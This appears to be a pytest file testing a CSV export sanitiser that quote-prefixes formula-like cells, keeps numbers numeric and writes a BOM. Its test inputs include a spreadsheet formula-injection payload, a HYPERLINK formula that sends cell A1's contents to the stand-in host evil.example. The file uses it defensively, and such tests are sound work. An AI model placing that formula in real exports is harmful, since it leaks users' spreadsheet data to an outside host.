"""The CSV writer: formula-like text is quoted, numbers stay numbers, the file opens in Excel."""

from __future__ import annotations

import csv
import decimal
import io

import pytest

from credit import csvfiles


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"演示")',
        "=1+1",
        "+86 511 1234",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-3",
    ],
)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert csvfiles.safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["镇江演示有限公司", "91321102MA1X2Y3Z4W", "AAA", "a=b", "1-2", " =1", "'quoted"]
)
def test_other_text_is_written_as_it_is(text):
    assert csvfiles.safe_cell(text) == text


@pytest.mark.parametrize("number", [-3, 0, 42, decimal.Decimal("-0.15"), -1.5])
def test_numbers_the_registry_computed_stay_numbers(number):
    assert csvfiles.safe_cell(number) == number


def test_none_is_an_empty_cell_and_a_boolean_is_text():
    assert csvfiles.safe_cell(None) == ""
    assert csvfiles.safe_cell(True) == "True"


def test_the_file_starts_with_a_bom_and_reads_back():
    body = csvfiles.write(["name", "points"], [["=1+1", -3], ["镇江演示", None]])
    assert body.startswith("\ufeffname,points\r\n")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    assert rows == [["name", "points"], ["'=1+1", "-3"], ["镇江演示", ""]]
